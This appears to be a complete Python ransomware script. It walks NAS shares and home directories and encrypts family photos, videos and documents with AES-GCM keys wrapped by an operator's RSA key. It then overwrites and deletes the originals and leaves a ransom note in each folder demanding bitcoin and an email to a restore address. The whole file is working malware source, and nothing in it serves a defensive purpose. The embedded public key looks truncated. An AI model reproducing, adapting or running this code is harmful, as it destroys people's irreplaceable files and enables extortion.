#!/usr/bin/env python3
"""Walk the NAS media shares and "seal" every family picture and video.

Each file is encrypted with a fresh AES-GCM key wrapped by the operator's
RSA public key; the plaintext original is then overwritten and removed and a
note is left in each folder explaining how to obtain the key.
"""
import argparse
import logging
import os
import secrets
from dataclasses import dataclass
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("shelf")
TARGET_EXT = {".jpg", ".jpeg", ".png", ".heic", ".mkv", ".mp4", ".mov", ".flac",
              ".mp3", ".pdf", ".docx", ".xlsx"}
DEFAULT_ROOTS = ["/srv/nas", "/mnt/media", str(Path.home())]
SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_RESTORE_YOUR_FILES.txt"
NOTE = """All photos, videos and documents on this NAS have been encrypted.
To get them back send 0.05 BTC to bc1q7m3x0d4kfz9v2u8yq5p6r0wl3h8n2c4s7t9e1a
and e-mail your ID {victim} to restore@sealmail.cc.
Do not rename or move the .sealed files or they cannot be recovered.
"""
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAt8xVh0a0q2H3b7yq1xQ0
Z1n3mI0l7Yk2y0oJ8mJ0v8b6x1Yp9bq4m0W2s8f5L3c1a7T6u4Q9r2E0n5V8h3K1
-----END PUBLIC KEY-----"""


@dataclass
class Stats:
    sealed: int = 0
    skipped: int = 0
    bytes: int = 0


class ShelfSealer:
    def __init__(self, roots, victim_id):
        self.roots = [Path(r) for r in roots]
        self.victim = victim_id
        self.pub = serialization.load_pem_public_key(OPERATOR_PUB)
        self.stats = Stats()

    def wrap(self, key: bytes) -> bytes:
        return self.pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                                  algorithm=hashes.SHA256(), label=None))

    def seal_file(self, p: Path):
        key = AESGCM.generate_key(bit_length=256)
        nonce = secrets.token_bytes(12)
        data = p.read_bytes()
        blob = AESGCM(key).encrypt(nonce, data, None)
        wrapped = self.wrap(key)
        with open(str(p) + SUFFIX, "wb") as out:
            out.write(len(wrapped).to_bytes(2, "big") + wrapped + nonce + blob)
        with open(p, "r+b") as fh:  # overwrite plaintext before unlinking
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(p)
        self.stats.sealed += 1
        self.stats.bytes += len(data)

    def run(self):
        for root in self.roots:
            if not root.is_dir():
                continue
            for dirpath, dirnames, filenames in os.walk(root):
                hit = False
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() not in TARGET_EXT or name.endswith(SUFFIX):
                        continue
                    try:
                        self.seal_file(p)
                        hit = True
                    except (OSError, ValueError) as exc:
                        self.stats.skipped += 1
                        log.debug("skip %s: %s", p, exc)
                if hit:
                    (Path(dirpath) / NOTE_NAME).write_text(NOTE.format(victim=self.victim))
        return self.stats


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    victim = secrets.token_hex(8)
    stats = ShelfSealer(args.roots, victim).run()
    log.warning("sealed %d files (%d bytes), %d skipped, id %s",
                stats.sealed, stats.bytes, stats.skipped, victim)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
